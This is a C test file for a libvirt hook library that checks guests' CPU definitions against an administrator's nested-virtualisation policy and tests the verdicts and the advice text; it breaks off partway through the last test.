/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* test_check.c - the whole way for one guest, as the hook asks it: the verdict, and what people are told. */
#include "libvirt_files.h"
#include "macros.h"
#include "support.h"

#define UUID "c7a5fdbd-edaf-9455-926a-d65c16db1809"
#define REQUIRED "<cpu mode='host-model'><feature policy='require' name='vmx'/></cpu>"
#define FORCED "<cpu mode='host-model'><feature policy='force' name='vmx'/></cpu>"
#define OPTIONAL "<cpu mode='host-model'><feature policy='optional' name='vmx'/></cpu>"
#define DISABLED "<cpu mode='host-model'><feature policy='disable' name='vmx'/></cpu>"
#define FORBIDDEN "<cpu mode='host-model'><feature policy='forbid' name='vmx'/></cpu>"
#define PLAIN "<cpu mode='host-passthrough'/>"
#define FIXED "<cpu mode='custom' match='exact' check='full'><model>Skylake-Client</model></cpu>"
#define FIXED_REQUIRED \
	"<cpu mode='custom' match='exact' check='full'><model>Skylake-Client</model><feature policy='require' name='vmx'/></cpu>"
#define PASSED_THROUGH(policy) "<cpu mode='host-passthrough'><feature policy='" policy "' name='vmx'/></cpu>"
#define FIXED_OF(model) "<cpu mode='custom' match='exact' check='full'><model>" model "</model></cpu>"
#define FIXED_DISABLED \
	"<cpu mode='custom' match='exact' check='full'><model>Skylake-Client</model><feature policy='disable' name='vmx'/></cpu>"
#define METADATA(word) "<metadata><n:policy xmlns:n='urn:nestxml:nested:1' nested='" word "'/></metadata>"

#define PASS NESTXML_VERDICT_PASS
#define REFUSE NESTXML_VERDICT_REFUSE
#define STALE NESTXML_VERDICT_STALE

/* ---- helpers ---- */

/* A section for every guest, at line 2 of the administrator's file; NULL: no file. */
static void state_policy(const struct tree *tree, const char *keys)
{
	char text[256];

	snprintf(text, sizeof(text), "[guest *]\n%s\n", keys ? keys : "");
	tree_write(tree, ADMIN_FILE, text);
}

static const char *document(const char *type, const char *arch, const char *body)
{
	static char xml[4096];

	snprintf(xml, sizeof(xml), "<domain type='%s'><name>vm</name><uuid>" UUID "</uuid><os><type arch='%s'>hvm</type></os>%s</domain>",
		 type, arch, body);
	return xml;
}

/* Must come to a verdict; what holds for every one is checked here. */
static struct nestxml_check *ask(const struct tree *tree, enum nestxml_operation occasion, const char *name, const char *xml)
{
	struct nestxml_check *check = NULL;
	struct nestxml_error error = {0};
	int code = nestxml_check_new(tree->root, occasion, name, xml, strlen(xml), &check, &error);
	const struct nestxml_edits *edits;

	CHECK(code == 0, "%s: %s", xml, error.message);
	CHECK(is_printable(nestxml_check_get_report(check)), "%s: %s", xml, nestxml_check_get_report(check));
	edits = nestxml_check_get_edits(check);
	CHECK((edits != NULL) == (nestxml_check_get_verdict(check) == STALE), "%s", xml);
	CHECK(!edits || nestxml_edits_count(edits) > 0, "%s", xml);
	return check;
}

/* All that people are told. */
static const char *said(const struct nestxml_check *check)
{
	static char line[2100];

	snprintf(line, sizeof(line), "%s; %s", nestxml_check_get_report(check), nestxml_check_get_advice(check));
	return line;
}

/* The words are separated by '|'; each must be in the report, or must not be there if it starts with '!'. */
static void check_words(const char *report, const char *words)
{
	char copy[512];
	char *rest = NULL;

	snprintf(copy, sizeof(copy), "%s", words);
	for (char *word = strtok_r(copy, "|", &rest); word; word = strtok_r(NULL, "|", &rest)) {
		if (*word == '!')
			CHECK(!strstr(report, word + 1), "%s in %s", word + 1, report);
		else
			CHECK(strstr(report, word), "%s in %s", word, report);
	}
}

struct row {
	const char *policy; /* keys of a section for every guest */
	const char *body;
	enum nestxml_verdict verdict;
	const char *words;
};

static void check_rows(const struct tree *tree, enum nestxml_operation occasion, const char *type, const struct row *rows, size_t count)
{
	for (size_t i = 0; i < count; i++) {
		struct nestxml_check *check;

		state_policy(tree, rows[i].policy);
		check = ask(tree, occasion, "vm", document(type, "x86_64", rows[i].body));
		CHECK(nestxml_check_get_verdict(check) == rows[i].verdict, "%s + %s: %s", rows[i].policy, rows[i].body,
		      nestxml_check_get_report(check));
		check_words(said(check), "guest 'vm'");
		check_words(said(check), rows[i].words);
		nestxml_check_free(check);
	}
}

/* ---- at prepare ---- */

#define CREATED "it has no stored definition|virsh create /dev/stdin|!virsh dumpxml"

static void test_on_a_host_with_nesting_the_cpu_decides(void **state)
{
	static const struct row rows[] = {
		{"", PLAIN, PASS, "left alone"},
		{"", "", PASS, "left alone"},
		{"nested = leave", REQUIRED, PASS, "left alone"},
		{"", REQUIRED, PASS, "require|its CPU"},
		{"nested = require", REQUIRED, PASS, "require|" ADMIN_FILE ":2"},
		{"nested = require", FORCED, PASS, "require"},
		{"nested = require", OPTIONAL, STALE, "nested=require|vmx|" CREATED},
		{"nested = require", DISABLED, STALE, CREATED},
		{"nested = require", PLAIN, STALE, "nested=require|vmx|" ADMIN_FILE ":2|" CREATED},
		{"nested = require", "", STALE, CREATED},
		{"", METADATA("require") PLAIN, STALE, "its metadata|" CREATED},
		{"nested = optional", OPTIONAL, PASS, "optional"},
		{"nested = optional", REQUIRED, PASS, "optional"},
		{"nested = optional", FORCED, PASS, "optional"},
		{"nested = optional", DISABLED, STALE, "nested=optional|" CREATED},
		{"nested = optional", PLAIN, STALE, "nested=optional"},
		{"nested = disable", DISABLED, PASS, "disable"},
		{"nested = disable", FORBIDDEN, PASS, "disable"},
		{"nested = disable", REQUIRED, STALE, "nested=disable|" CREATED},
		{"nested = disable", OPTIONAL, STALE, "nested=disable"},
		{"nested = disable", PLAIN, STALE, "nested=disable"},
		{"nested = disable", "", STALE, "nested=disable"},
	};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
}

static void test_the_advice_fits_the_guest_and_its_definition(void **state)
{
	struct nestxml_check *check;

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	tree_write(*state, "/etc/libvirt/qemu/vm.xml", document("kvm", "x86_64", PLAIN));
	check = ask(*state, NESTXML_OPERATION_START, "vm", document("kvm", "x86_64", PLAIN));
	check_words(said(check), "rewrite its definition: virsh dumpxml --inactive --security-info vm|!virsh create|!virt-install");
	nestxml_check_free(check);
	tree_clear(*state);
	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require");
	check = ask(*state, NESTXML_OPERATION_START, "vm", document("kvm", "x86_64", PLAIN));
	check_words(said(check), CREATED "|virt-install --cpu host-passthrough,require=vmx");
	nestxml_check_free(check);
}

static void test_on_a_host_without_nesting_what_requires_it_is_refused(void **state)
{
	static const struct row rows[] = {
		{"", PLAIN, PASS, "left alone"},
		{"nested = leave", REQUIRED, PASS, "left alone"},
		{"", REQUIRED, REFUSE, "required by its CPU|kvm_intel nested=N|nestctl host enable|!virsh"},
		{"nested = require", REQUIRED, REFUSE, "required by " ADMIN_FILE ":2|kvm_intel nested=N|nestctl host enable"},
		{"nested = require", PLAIN, REFUSE, "kvm_intel nested=N|nestctl host enable|!virsh"},
		{"nested = require", FIXED_REQUIRED, REFUSE, "kvm_intel nested=N"},
		{"", METADATA("require"), REFUSE, "required by its metadata|kvm_intel nested=N"},
		{"nested = optional", OPTIONAL, PASS, "optional"},
		{"nested = optional", REQUIRED, PASS, "optional"},
		{"nested = optional", PLAIN, STALE, "nested=optional"},
		{"nested = disable", DISABLED, PASS, "disable"},
		{"nested = disable", PLAIN, STALE, "nested=disable"},
	};

	tree_host(*state, "GenuineIntel", "kvm_intel", "N\n");
	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
}

static void test_a_refusal_names_the_fact_and_the_command_that_fixes_it(void **state)
{
	static const struct {
		const char *id;
		const char *module;
		const char *nested;
		const char *words;
	} hosts[] = {
		{"AuthenticAMD", "kvm_amd", "0\n", "kvm_amd nested=0|nestctl host enable|nestctl host)"},
		{"GenuineIntel", NULL, NULL, "kvm_intel is not loaded|nestctl host enable"},
		{"HygonGenuine", "kvm", "Y\n", "kvm_amd is not loaded|nestctl host enable"},
		{"GenuineIntel", "kvm_pvm", NULL, "the KVM that is loaded cannot nest: kvm_pvm|nestctl host|!nestctl host enable"},
		{"GenuineIntel", "kvm_intel", NULL, "kvm_intel has no parameter nested|nestctl host|!nestctl host enable"},
		{"GenuineIntel", "kvm_intel", "maybe\n", "kvm_intel nested='maybe'|nestctl host"},
		{"RiseRiseRise", "kvm_intel", "Y\n", "RiseRiseRise|nestctl host|!nestctl host enable"},
	};

	state_policy(*state, "nested = require");
	for (size_t i = 0; i < ARRAY_SIZE(hosts); i++) {
		struct nestxml_check *check;

		tree_clear(*state);
		state_policy(*state, "nested = require");
		tree_host(*state, hosts[i].id, hosts[i].module, hosts[i].nested);
		check = ask(*state, NESTXML_OPERATION_START, "vm", document("kvm", "x86_64", REQUIRED));
		CHECK(nestxml_check_get_verdict(check) == REFUSE, "%s", hosts[i].words);
		check_words(said(check), "guest 'vm'|required by " ADMIN_FILE ":2");
		check_words(said(check), hosts[i].words);
		nestxml_check_free(check);
	}
}

static void test_an_unreadable_host_is_not_on(void **state)
{
	static const struct row rows[] = {
		{"nested = require", REQUIRED, REFUSE, "/proc/cpuinfo cannot be read|nestctl host|!nestctl host enable"},
		{"nested = leave", REQUIRED, PASS, "left alone"},
		{"", PLAIN, PASS, "left alone"},
	};

	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
}

static void test_disable_with_an_unknown_vendor_fails_closed(void **state)
{
	static const char *const cpus[] = {PLAIN, REQUIRED, DISABLED, "", FIXED};

	state_policy(*state, "nested = disable");
	for (size_t i = 0; i < ARRAY_SIZE(cpus); i++) {
		const char *xml = document("kvm", "x86_64", cpus[i]);
		struct nestxml_check *check = NULL;
		struct nestxml_error error = {0};

		CHECK(nestxml_check_new(((struct tree *)*state)->root, NESTXML_OPERATION_START, "vm", xml, strlen(xml), &check, &error) ==
			      0,
		      "%s", cpus[i]);
		assert_int_equal(nestxml_check_get_verdict(check), NESTXML_VERDICT_REFUSE);
		assert_int_equal(nestxml_check_get_cpu_state(check), NESTXML_CPU_UNKNOWN);
		assert_int_equal(nestxml_check_get_problem(check)->code, NESTXML_E_VENDOR);
		assert_non_null(strstr(nestxml_check_get_report(check), "/proc/cpuinfo"));
		nestxml_check_free(check);
	}
}

/* Passes, since nothing is lost by it; but that its CPU states anything is not known. */
static void test_optional_with_an_unknown_vendor_passes_without_a_claim_about_the_cpu(void **state)
{
	static const struct row rows[] = {{"nested = optional", PLAIN, PASS, "optional|!its CPU states it"}};

	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
}

static void test_the_mode_of_the_policy_makes_no_cpu_stale_but_is_in_the_fix(void **state)
{
	static const struct row rows[] = {
		{"nested = require\nmode = host-passthrough", REQUIRED, PASS, "require"},
		{"nested = require\nmode = host-passthrough", PLAIN, STALE, "| nestxml -n require -m host-passthrough |"},
		{"nested = require\nmode = host-model", REQUIRED, PASS, "require"},
		{"nested = disable\nmode = maximum", PLAIN, STALE, "nestxml -n disable -m maximum"},
		{"nested = require", PLAIN, STALE, "nestxml -n require|!-m "},
		{"nested = leave\nmode = maximum", PLAIN, PASS, "left alone"},
		{"nested = optional\nmode = host-passthrough", REQUIRED, PASS, "optional"},
	};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
}

static void test_what_a_saved_cpu_looks_like_excuses_no_start(void **state)
{
	static const struct row rows[] = {
		{"nested = require", FIXED, STALE, "nested=require"},
		{"nested = require", FIXED_DISABLED, STALE, "nested=require"},
		{"nested = require", FIXED_REQUIRED, PASS, "require"},
		{"nested = optional", FIXED, STALE, "nested=optional"},
		{"nested = disable", FIXED_REQUIRED, STALE, "nested=disable"},
		{"nested = require\nmode = host-passthrough", FIXED_REQUIRED, PASS, "require"},
	};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
}

/* libvirt ends a start that would give such a CPU more than it says. */
static void test_a_cpu_described_in_full_has_what_it_says_and_no_more(void **state)
{
	static const struct row rows[] = {
		{"nested = disable", FIXED_OF("kvm64"), PASS, "disable"},
		{"nested = disable", FIXED_OF("qemu64"), STALE, "nested=disable"},
		{"nested = disable", FIXED_OF("EPYC-Rome-v2"), STALE, "nested=disable"},
		{"nested = disable", "<cpu mode='custom' match='exact' check='full'/>", STALE, "nested=disable"},
		{"nested = disable", "<cpu mode='custom' match='exact' check='partial'><model>kvm64</model></cpu>", STALE,
		 "nested=disable"},
		{"nested = disable", "<cpu mode='custom' match='minimum' check='full'><model>kvm64</model></cpu>", STALE, "nested=disable"},
		{"nested = disable", "<cpu mode='host-model' check='full'><model>kvm64</model></cpu>", STALE, "nested=disable"},
	};

	tree_host(*state, "AuthenticAMD", "kvm_amd", "1\n");
	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
}

#define OVERRIDE                                                                                                                    \
	"<qemu:commandline xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'><qemu:arg value='-cpu'/><qemu:arg value='max'/>" \
	"</qemu:commandline>"

static void test_where_an_argument_for_qemu_decides_what_must_be_so_is_refused(void **state)
{
	static const struct row rows[] = {
		{"nested = require", REQUIRED OVERRIDE, REFUSE,
		 "-cpu in <qemu:commandline>|remove -cpu in <qemu:commandline> from its definition|nested = leave|!virsh"},
		{"nested = disable", DISABLED OVERRIDE, REFUSE,
		 "-cpu in <qemu:commandline>|remove -cpu in <qemu:commandline> from its definition|nested = leave|!virsh"},
		{"nested = disable", PLAIN OVERRIDE, REFUSE, "-cpu in <qemu:commandline>"},
		{"nested = optional", REQUIRED OVERRIDE, PASS, "-cpu in <qemu:commandline>"},
		{"nested = leave", PLAIN OVERRIDE, PASS, "left alone"},
		{"", PLAIN OVERRIDE, PASS, "left alone"},
		{"", REQUIRED OVERRIDE, REFUSE, "-cpu in <qemu:commandline>"},
	};
	/* What is removed from the definition is still in what was saved. */
	static const struct row arriving[] = {
		{"nested = require", REQUIRED OVERRIDE, REFUSE,
		 "-cpu in <qemu:commandline>|from its stored definition instead, once the definition has no -cpu in <qemu:commandline> (|virsh managedsave-remove vm|nested = leave"},
		{"nested = disable", DISABLED OVERRIDE, REFUSE,
		 "-cpu in <qemu:commandline>|from its stored definition instead, once the definition has no -cpu in <qemu:commandline> (|virsh managedsave-remove vm|nested = leave"},
		{"", REQUIRED OVERRIDE, REFUSE, "-cpu in <qemu:commandline>|in a [guest ...] section"},
		{"nested = optional", REQUIRED OVERRIDE, PASS, "-cpu in <qemu:commandline>"},
		{"nested = leave", PLAIN OVERRIDE, PASS, "left alone"},
	};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
	check_rows(*state, NESTXML_OPERATION_INCOMING, "kvm", arriving, ARRAY_SIZE(arriving));
	check_rows(*state, NESTXML_OPERATION_START_INCOMING, "kvm", arriving, ARRAY_SIZE(arriving));
}

#define ENCRYPTED "<launchSecurity type='sev'/>"

static void test_nesting_does_not_apply_to_encrypted_memory_but_its_cpu_must_not_claim_it(void **state)
{
	static const struct row rows[] = {
		{"nested = require", REQUIRED ENCRYPTED, REFUSE, "its memory is encrypted|nested = leave"},
		{"nested = optional", PLAIN ENCRYPTED, PASS, "does not apply"},
		{"nested = disable", DISABLED ENCRYPTED, PASS, "disable"},
		{"nested = disable", PLAIN ENCRYPTED, STALE, "nested=disable"},
	};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
}

static void test_the_features_name_is_that_of_the_hosts_vendor(void **state)
{
	static const struct row amd[] = {
		{"nested = require", REQUIRED, STALE, "(svm)"}, /* vmx is what it requires */
		{"nested = require", "<cpu mode='host-model'><feature name='svm'/></cpu>", PASS, "require"},
		{"nested = disable", DISABLED, STALE, "(svm)"},
	};

	tree_host(*state, "AuthenticAMD", "kvm_amd", "1\n");
	check_rows(*state, NESTXML_OPERATION_START, "kvm", amd, ARRAY_SIZE(amd));
}

static void test_tcg_has_svm_on_any_host(void **state)
{
	static const struct row rows[] = {
		{"nested = require", "<cpu mode='maximum'><feature policy='require' name='svm'/></cpu>", PASS, "require"},
		{"nested = require", "<cpu mode='maximum'/>", STALE, "(svm)"},
		{"nested = require", REQUIRED, STALE, "(svm)"},
		{"nested = optional", "<cpu mode='maximum'><feature policy='optional' name='svm'/></cpu>", PASS, "optional"},
		{"nested = disable", "<cpu mode='maximum'><feature policy='disable' name='svm'/></cpu>", PASS, "disable"},
		{"nested = disable", "<cpu mode='maximum'/>", STALE, "(svm)"},
	};
	static const char *const ids[] = {NULL, "GenuineIntel", "AuthenticAMD", "unheard-of"};

	for (size_t i = 0; i < ARRAY_SIZE(ids); i++) {
		tree_clear(*state);
		if (ids[i])
			tree_host(*state, ids[i], "kvm_intel", "N\n");
		check_rows(*state, NESTXML_OPERATION_START, "qemu", rows, ARRAY_SIZE(rows));
		check_rows(*state, NESTXML_OPERATION_INCOMING, "qemu", rows, 1);
	}
}

static void test_where_nesting_does_not_apply_require_is_refused_and_all_else_passes(void **state)
{
	static const struct {
		const char *type;
		const char *arch;
		const char *word;
	} guests[] = {
		{"kvm", "aarch64", "architecture is aarch64"}, {"qemu", "ppc64le", "ppc64le"}, {"xen", "x86_64", "domain type is 'xen'"}};
	static const struct {
		const char *policy;
		enum nestxml_verdict verdict;
	} policies[] = {{"nested = require", REFUSE}, {"nested = optional", PASS}, {"nested = disable", PASS}, {"nested = leave", PASS}};

	for (size_t i = 0; i < ARRAY_SIZE(guests) * ARRAY_SIZE(policies) * 2; i++) {
		size_t guest = i % ARRAY_SIZE(guests);
		size_t policy = i / ARRAY_SIZE(guests) % ARRAY_SIZE(policies);
		struct nestxml_check *check;

		tree_clear(*state);
		if (i % 2)
			tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
		state_policy(*state, policies[policy].policy);
		check = ask(*state, NESTXML_OPERATION_START, "vm", document(guests[guest].type, guests[guest].arch, PLAIN));
		CHECK(nestxml_check_get_verdict(check) == policies[policy].verdict, "%s + %s", guests[guest].word, policies[policy].policy);
		if (policies[policy].verdict == REFUSE)
			check_words(said(check), guests[guest].word);
		nestxml_check_free(check);
	}
}

/* ---- at arrival ---- */

static const enum nestxml_operation arrivals[] = {NESTXML_OPERATION_INCOMING, NESTXML_OPERATION_START_INCOMING};

static void test_what_arrives_and_requires_nesting_needs_a_host_that_has_it(void **state)
{
	static const struct row on[] = {
		{"", REQUIRED, PASS, "require"},
		{"nested = require", FIXED_REQUIRED, PASS, "require"},
		{"nested = optional", REQUIRED, PASS, "optional"},
	};
	static const struct row off[] = {
		{"", REQUIRED, REFUSE, "kvm_intel nested=N|nestctl host enable"},
		{"nested = require", FIXED_REQUIRED, REFUSE, "kvm_intel nested=N"},
		{"nested = require", FORCED, REFUSE, "kvm_intel nested=N"},
		/* whatever the policy says: the XML requires it */
		{"nested = optional", REQUIRED, REFUSE, "kvm_intel nested=N"},
		{"nested = leave", REQUIRED, REFUSE, "kvm_intel nested=N"},
		{"nested = optional", OPTIONAL, PASS, "optional"},
		{"nested = leave", PLAIN, PASS, "left alone"},
		{"", PLAIN, PASS, "left alone"},
	};

	for (size_t i = 0; i < ARRAY_SIZE(arrivals); i++) {
		tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
		check_rows(*state, arrivals[i], "kvm", on, ARRAY_SIZE(on));
		tree_host(*state, "GenuineIntel", "kvm_intel", "N\n");
		check_rows(*state, arrivals[i], "kvm", off, ARRAY_SIZE(off));
	}
}

/* Their CPU cannot be changed for this run, so they pass, and people are told. */
static void test_what_arrives_without_what_it_is_to_have_passes_and_is_unmet(void **state)
{
	static const struct {
		const char *policy;
		const char *cpu;
	} guests[] = {
		{"nested = require", FIXED},
		{"nested = require", PLAIN},
		{"nested = require", PASSED_THROUGH("disable")},
		{"nested = require", PASSED_THROUGH("optional")},
		{"nested = optional", PLAIN},
		{"nested = optional", FIXED_DISABLED},
		{"nested = require", PLAIN ENCRYPTED},
	};
	static const char *const hosts[] = {"Y\n", "N\n"};

	for (size_t i = 0; i < ARRAY_SIZE(guests) * ARRAY_SIZE(hosts) * ARRAY_SIZE(arrivals); i++) {
		const char *xml = document("kvm", "x86_64", guests[i / 4].cpu);
		struct nestxml_check *check;

		tree_host(*state, "GenuineIntel", "kvm_intel", hosts[i / 2 % 2]);
		state_policy(*state, guests[i / 4].policy);
		check = ask(*state, arrivals[i % 2], "vm", xml);
		CHECK(nestxml_check_get_verdict(check) == PASS, "%s: %s", xml, nestxml_check_get_report(check));
		CHECK(nestxml_check_is_unmet(check), "%s: %s", xml, nestxml_check_get_report(check));
		check_words(said(check),
			    "guest 'vm'|is asked for by " ADMIN_FILE ":2, but|saved state, a snapshot or another host|passes as it is");
		nestxml_check_free(check);
	}
}

static void test_what_is_as_its_policy_asks_is_not_unmet(void **state)
{
	static const struct {
		enum nestxml_operation operation;
		const char *policy;
		const char *cpu;
	} guests[] = {
		{NESTXML_OPERATION_START, "nested = require", REQUIRED},
		{NESTXML_OPERATION_INCOMING, "nested = require", REQUIRED},
		{NESTXML_OPERATION_START, "nested = optional", OPTIONAL},
		{NESTXML_OPERATION_INCOMING, "nested = disable", DISABLED},
		{NESTXML_OPERATION_START, "nested = leave", PLAIN},
		{NESTXML_OPERATION_START, "nested = require", PLAIN},
		{NESTXML_OPERATION_START, "nested = optional", PLAIN ENCRYPTED},
	};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	for (size_t i = 0; i < ARRAY_SIZE(guests); i++) {
		struct nestxml_check *check;

		state_policy(*state, guests[i].policy);
		check = ask(*state, guests[i].operation, "vm", document("kvm", "x86_64", guests[i].cpu));
		CHECK(!nestxml_check_is_unmet(check), "%s + %s", guests[i].policy, guests[i].cpu);
		nestxml_check_free(check);
	}
}

static void test_what_arrives_with_what_it_must_not_have_is_refused_on_any_host(void **state)
{
	static const struct row rows[] = {
		{"nested = disable", DISABLED, PASS, "disable"},
		{"nested = disable", FORBIDDEN, PASS, "disable"},
		{"nested = disable", FIXED_DISABLED, PASS, "disable"},
		{"nested = disable", FIXED, PASS, "disable"}, /* described in full, without it */
		{"nested = disable", FIXED_REQUIRED, REFUSE,
		 "does not disable vmx|cannot be changed|virsh managedsave-remove vm|nested = leave"},
		{"nested = disable", PASSED_THROUGH("require"), REFUSE, "does not disable vmx"},
		{"nested = disable", "<cpu mode=\'maximum\'/>", REFUSE, "does not disable vmx"},
		{"nested = disable", PLAIN, REFUSE, "does not disable vmx"},
	};
	static const char *const hosts[] = {"Y\n", "N\n"};

	for (size_t i = 0; i < ARRAY_SIZE(arrivals) * ARRAY_SIZE(hosts); i++) {
		tree_host(*state, "GenuineIntel", "kvm_intel", hosts[i / 2]);
		check_rows(*state, arrivals[i % 2], "kvm", rows, ARRAY_SIZE(rows));
	}
}

/* libvirt starts what arrives with its CPU expanded or passed through: with any other it is a start, whoever has announced it. */
static void test_what_no_saved_state_can_have_is_a_start_whatever_was_announced(void **state)
{
	static const struct row rows[] = {
		{"nested = require", DISABLED, STALE, "nested=require"},
		{"nested = require", "<cpu mode='custom' match='exact' check='none'><model>kvm64</model></cpu>", STALE, "nested=require"},
		{"nested = require", "", STALE, "nested=require"},
		{"nested = disable", REQUIRED, STALE, "nested=disable"},
		{"nested = disable", "", STALE, "nested=disable"},
	};

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	check_rows(*state, NESTXML_OPERATION_START_INCOMING, "kvm", rows, ARRAY_SIZE(rows));
}

#define STORED "/etc/libvirt/qemu/vm.xml"
#define SNAPSHOT "/var/lib/libvirt/qemu/snapshot/vm/one.xml"

/* Only what starts as the stored definition, whole, may have a start of ours in its place. */
static void test_the_definition_is_stale_only_where_it_is_what_starts(void **state)
{
	static const struct {
		enum nestxml_operation operation;
		const char *starts; /* the body of what starts, of what is stored, and of a snapshot's domain */
		const char *stored;
		const char *snapshot;
		enum nestxml_definition definition;
	} starts[] = {
		{NESTXML_OPERATION_START, PLAIN, NULL, NULL, NESTXML_DEFINITION_UNKNOWN},
		{NESTXML_OPERATION_START, PLAIN, PLAIN, NULL, NESTXML_DEFINITION_STALE},
		{NESTXML_OPERATION_START, FIXED, FIXED, NULL, NESTXML_DEFINITION_STALE},
		{NESTXML_OPERATION_START, PLAIN, PLAIN "<on_crash>destroy</on_crash>", NULL, NESTXML_DEFINITION_OTHER},
		{NESTXML_OPERATION_START, PLAIN, DISABLED, NULL, NESTXML_DEFINITION_OTHER},
		{NESTXML_OPERATION_START, PLAIN, REQUIRED, NULL, NESTXML_DEFINITION_CURRENT},
		{NESTXML_OPERATION_START, PLAIN, PLAIN, DISABLED, NESTXML_DEFINITION_STALE},
		{NESTXML_OPERATION_START, PLAIN, PLAIN, PLAIN, NESTXML_DEFINITION_OTHER},
		{NESTXML_OPERATION_START_INCOMING, PLAIN, PLAIN, NULL, NESTXML_DEFINITION_OTHER},
		{NESTXML_OPERATION_START_INCOMING, DISABLED, DISABLED, NULL, NESTXML_DEFINITION_OTHER},
	};

	for (size_t i = 0; i < ARRAY_SIZE(starts); i++) {
		char xml[4096];
		char snapshot[4096 + 64];
		struct nestxml_check *check;

		tree_clear(*state);
		tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
		state_policy(*state, "nested = require");
		if (starts[i].stored)
			tree_write(*state, STORED, document("kvm", "x86_64", starts[i].stored));
		snprintf(snapshot, sizeof(snapshot), "<domainsnapshot><state>running</state>%s</domainsnapshot>",
			 document("kvm", "x86_64", starts[i].snapshot ? starts[i].snapshot : ""));
		if (starts[i].snapshot)
			tree_write(*state, SNAPSHOT, snapshot);
		snprintf(xml, sizeof(xml), "%s", document("kvm", "x86_64", starts[i].starts));
		check = ask(*state, starts[i].operation, "vm", xml);
		CHECK(nestxml_check_get_verdict(check) == STALE, "start %zu", i);
		CHECK(nestxml_check_get_definition(check) == starts[i].definition, "start %zu: %d", i,
		      (int)nestxml_check_get_definition(check));
		nestxml_check_free(check);
	}
}

/* What is not read could be what starts: it is judged as a start, and nothing is started in its place. */
static void test_with_more_snapshots_than_are_read_it_may_be_a_revert(void **state)
{
	static const struct {
		const char *policy;
		size_t count;
		const char *filler;
		enum nestxml_definition definition;
	} guests[] = {
		{"nested = require", NESTXML_SNAPSHOTS, "", NESTXML_DEFINITION_STALE},
		{"nested = require", NESTXML_SNAPSHOTS + 1, "", NESTXML_DEFINITION_OTHER},
		{"nested = disable", NESTXML_SNAPSHOTS + 1, "", NESTXML_DEFINITION_OTHER},
		{"nested = require", 31, "big", NESTXML_DEFINITION_STALE},
		{"nested = require", 33, "big", NESTXML_DEFINITION_OTHER},
	};
	const size_t size = NESTXML_SNAPSHOTS_SIZE / 32;
	AUTO_FREE char *big = calloc(1, size + 1);

	assert_non_null(big);
	memset(big, ' ', size);
	for (size_t i = 0; i < ARRAY_SIZE(guests); i++) {
		struct nestxml_check *check;

		tree_clear(*state);
		tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
		state_policy(*state, guests[i].policy);
		tree_write(*state, STORED, document("kvm", "x86_64", PLAIN));
		for (size_t file = 0; file < guests[i].count; file++) {
			char path[128];

			snprintf(path, sizeof(path), "/var/lib/libvirt/qemu/snapshot/vm/%zu.xml", file);
			tree_write(*state, path, guests[i].filler[0] ? big : "");
		}
		check = ask(*state, NESTXML_OPERATION_START, "vm", document("kvm", "x86_64", PLAIN));
		CHECK(nestxml_check_get_verdict(check) == STALE, "guest %zu", i);
		CHECK(nestxml_check_get_definition(check) == guests[i].definition, "guest %zu: %d", i,
		      (int)nestxml_check_get_definition(check));
		if (guests[i].definition == NESTXML_DEFINITION_OTHER)
			check_words(nestxml_check_get_advice(check), "perhaps not made from its stored definition|nestctl apply vm");
		nestxml_check_free(check);
	}
}

static void test_at_arrival_an_unknown_host_is_not_on(void **state)
{
	static const struct row rows[] = {
		{"", REQUIRED, REFUSE, "/proc/cpuinfo cannot be read"},
		{"nested = disable", DISABLED, REFUSE, "is unknown|nestctl host"},
		{"nested = require", PLAIN, PASS, "require"},
	};

	check_rows(*state, NESTXML_OPERATION_INCOMING, "kvm", rows, ARRAY_SIZE(rows));
}

/* ---- what comes with the answer ---- */

static void test_the_policy_and_the_edits_come_with_the_answer(void **state)
{
	const char *xml = document("kvm", "x86_64", "<cpu mode='host-model'></cpu>");
	struct nestxml_check *check;
	char *made;
	size_t length;

	tree_host(*state, "GenuineIntel", "kvm_intel", "Y\n");
	state_policy(*state, "nested = require\non-stale = allow");
	check = ask(*state, NESTXML_OPERATION_START, "vm", xml);
	assert_int_equal(nestxml_check_get_policy(check)->nested, NESTXML_NESTED_REQUIRE);
	assert_int_equal(nestxml_check_get_policy(check)->on_stale, NESTXML_ON_STALE_ALLOW);
	assert_int_equal(nestxml_check_get_policy(check)->source, NESTXML_SOURCE_SECTION);
	assert_string_equal(nestxml_check_get_policy(check)->file, ADMIN_FILE);
	assert_int_equal(nestxml_check_get_verdict(check), STALE);
	assert_int_equal(nestxml_edits_apply(nestxml_check_get_edits(check), &made, &length), 0);
	assert_non_null(strstr(made, "<cpu mode='host-model'><feature policy='require' name='vmx'/></cpu>"));
	nestxml_check_free(check);
	check = ask(*state, NESTXML_OPERATION_START, "vm", made); /* what the edits make is current */
	assert_int_equal(nestxml_check_get_verdict(check), PASS);
	nestxml_check_free(check);
	free(made);
	nestxml_check_free(NULL);
}

static void test_whatever_is_wrong_comes_as_its_code(void **state)
{
	static const struct {
		const char *policy;
		const char *xml;
		int code;
